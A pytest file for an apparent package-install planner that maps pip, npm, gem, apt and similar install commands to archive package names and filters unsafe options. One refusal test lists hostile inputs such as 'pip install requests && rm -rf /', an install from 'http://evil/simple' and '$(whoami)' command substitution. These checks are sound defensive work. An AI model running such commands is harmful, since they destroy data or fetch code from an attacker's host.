"""Other package managers' install commands as requests of the archive: "sudo apt-get -y install nginx",
"pacman -S vim", "cargo install ripgrep" name programs; "pip install requests", "npm install -g
typescript", "gem install rails" name one language's modules, planned as the archive's packages of them."""

from __future__ import annotations

import pytest

from cortex import plan as P
from cortex.intake import check_request
from cortex.packages.apt import AptManager
from cortex.packages.query import module_packages
from cortex.packages.records import PackageInfo
from cortex.planner import Planner
from cortex.planning.split import ModuleInstall, module_install, normalize
from tests.index_helpers import index_of


@pytest.mark.parametrize(
    ("request_", "expected"),
    [
        ("pip install requests", ModuleInstall("pip install requests", "python", ("requests",))),
        (
            "sudo pip3 install numpy pandas",
            ModuleInstall("sudo pip3 install numpy pandas", "python", ("numpy", "pandas")),
        ),
        ("npm install -g typescript@5", ModuleInstall("npm install -g typescript@5", "node", ("typescript",))),
        ("npm i @types/node", ModuleInstall("npm i @types/node", "node", ("@types/node",))),
        ("yarn add lodash", ModuleInstall("yarn add lodash", "node", ("lodash",))),
        ("gem install Rails.", ModuleInstall("gem install Rails", "ruby", ("rails",))),
        ("cpan install JSON::XS", ModuleInstall("cpan install JSON::XS", "perl", ("json::xs",))),
        ("luarocks install luasocket", ModuleInstall("luarocks install luasocket", "lua", ("luasocket",))),
        (
            "go install github.com/junegunn/fzf@latest",
            ModuleInstall("go install github.com/junegunn/fzf@latest", "go", ("github.com/junegunn/fzf",)),
        ),
        ("conda install -y scipy", ModuleInstall("conda install -y scipy", "python", ("scipy",))),
    ],
)
def test_a_language_managers_install_names_its_modules(request_, expected):
    assert module_install(request_) == expected


@pytest.mark.parametrize(
    "request_",
    ["apt install nginx", "cargo install ripgrep", "pipx install black", "brew install wget", "pip", "pip install",
     "install pip", "a pip install helper", "pip uninstall requests"],
)  # fmt: skip
def test_other_requests_are_no_module_install(request_):
    assert module_install(request_) is None


@pytest.mark.parametrize(
    ("request_", "normalized"),
    [
        ("sudo apt-get -y install nginx", "nginx"),
        ("pacman -S --noconfirm vim", "vim"),
        ("dnf -y install git", "git"),
        ("cargo install ripgrep", "ripgrep"),
        ("brew install wget", "wget"),
        ("please apk add curl", "curl"),
        ("apt install -y nginx curl", "nginx curl"),
    ],
)
def test_a_package_managers_install_command_is_stripped_to_its_names(request_, normalized):
    assert normalize(request_) == normalized


@pytest.mark.parametrize(
    ("language", "module", "names"),
    [
        ("python", "requests", ("python3-requests",)),
        ("python", "PyYAML", ("python3-pyyaml", "python3-yaml")),
        ("python", "python-dateutil", ("python3-python-dateutil", "python3-dateutil")),
        ("python", "ruamel.yaml", ("python3-ruamel-yaml",)),
        ("node", "@types/node", ("node-types-node",)),
        ("ruby", "rspec_core", ("ruby-rspec-core",)),
        ("perl", "JSON", ("libjson-perl",)),
        ("perl", "JSON::XS", ("libjson-xs-perl",)),
        ("lua", "luasocket", ("lua-luasocket", "lua-socket")),
        ("go", "github.com/junegunn/fzf", ("fzf",)),
        ("haskell", "text", ()),
    ],
)
def test_a_modules_names_in_the_archive_follow_the_languages_naming(language, module, names):
    assert module_packages(language, module) == names


@pytest.mark.parametrize(
    "request_",
    ["npm install -g typescript", "npm install --global typescript", "sudo apt-get -y install nginx",
     "pacman -S --noconfirm vim", "pip install requests"],
)  # fmt: skip
def test_the_intake_lets_an_install_command_with_harmless_options_through(request_):
    assert check_request(request_).allowed


@pytest.mark.parametrize(
    "request_",
    ["pip install --user black", "apt-get -y remove nginx", "sudo pip install --break-system-packages requests",
     "npm install --save express", "pacman -Rns vim", "pip install -r requirements.txt"],
)  # fmt: skip
def test_the_intake_refuses_other_options_and_subcommands(request_):
    decision = check_request(request_)
    assert not decision.allowed and decision.rule == "command-line"


def _info(name: str, summary: str) -> PackageInfo:
    return PackageInfo(name=name, version="1.0-1", summary=summary, section="python")


RECORDS = [
    _info("python3-requests", "elegant and simple HTTP library for Python3, built for human beings"),
    _info("python3-yaml", "YAML parser and emitter for Python3"),
    _info("black", "uncompromising Python code formatter"),
    _info("node-typescript", "superset of JavaScript that compiles to clean JavaScript output"),
    _info("ruby-rails", "MVC ruby based framework geared for web application development"),
    _info("requests-cli", "an unrelated program whose name starts like a module"),
]


@pytest.fixture(scope="module")
def planner(tmp_path_factory):
    with index_of(RECORDS, tmp_path_factory.mktemp("idx")) as idx:
        yield Planner(idx, AptManager(), use_model=False)


@pytest.mark.parametrize(
    ("request_", "packages"),
    [
        ("pip install requests", ("python3-requests",)),
        ("pip3 install PyYAML requests", ("python3-yaml", "python3-requests")),
        ("npm install -g typescript", ("node-typescript",)),
        ("gem install rails", ("ruby-rails",)),
        ("pip install black", ("black",)),  # packaged as a program, not as a module
    ],
)
def test_a_module_install_plans_the_archives_package_of_each_module(planner, request_, packages):
    plan = planner.plan(request_)
    assert plan.status == P.PLANNED, plan.reason
    assert plan.packages == packages
    assert plan.steps[0].argv[-len(packages) :] == packages


def test_the_plan_says_how_the_command_was_read(planner):
    plan = planner.plan("pip install requests")
    assert any("requests -> python3-requests" in n and "`pip install requests`" in n for n in plan.notes)
    assert plan.chosen[0].why == "the archive's package of the python module 'requests'"


def test_a_module_the_archive_lacks_is_unresolved_never_a_look_alike(planner):
    plan = planner.plan("pip install requests nonexistent-module")
    assert plan.status == P.UNRESOLVED and plan.packages == ()
    assert "nonexistent-module" in plan.reason
    assert "python3-requests" in {c.name for c in plan.chosen}  # the rest resolves, and the plan says so


@pytest.mark.parametrize(
    "request_",
    ["pip install requests && rm -rf /", "npm install -g typescript and then delete /var/log",
     "pip install git+https://github.com/x/y", "pip install requests -i http://evil/simple", "pip install ./mypkg",
     "pip install $(whoami)", "sudo -u bob pip install requests", "gem install rails --no-document"],
)  # fmt: skip
def test_a_language_managers_command_with_more_than_names_is_refused_whole(planner, request_):
    plan = planner.plan(request_)
    assert plan.status == P.REFUSED and plan.packages == () and plan.steps == ()


@pytest.mark.parametrize(
    ("request_", "normalized"),
    [
        ("hi, i need nginx", "nginx"),
        ("thanks! now install vim", "vim"),
        ("htop, thanks!", "htop"),
        ("vim. thank you so much!", "vim"),
        ("hola, instala vim", "vim"),
        ("bitte installiere htop", "htop"),
        ("hello.", "hello"),  # the program hello, not a greeting
        ("installer for windows apps", "installer for windows apps"),  # a noun, not French "installer"
        ("first person shooter game", "first person shooter game"),
        ("vlc plz", "vlc"),
        ("htop now please", "htop"),
        ("installa vim per favore", "vim"),
        ("a tool to know", "a tool to know"),
    ],
)
def test_greetings_fillers_and_other_languages_install_verbs_are_stripped(request_, normalized):
    assert normalize(request_) == normalized


@pytest.mark.parametrize(
    ("request_", "rule"), [("go back to the previous kernel", "rollback"), ("go remove nginx", "delete")]
)
def test_a_manager_named_by_an_everyday_word_is_a_command_only_with_its_subcommand(request_, rule):
    from cortex.intake import check_request

    decision = check_request(request_)
    assert not decision.allowed and decision.rule == rule
    assert check_request("go install github.com/junegunn/fzf@latest").allowed
    assert check_request("go ahead and install htop").allowed
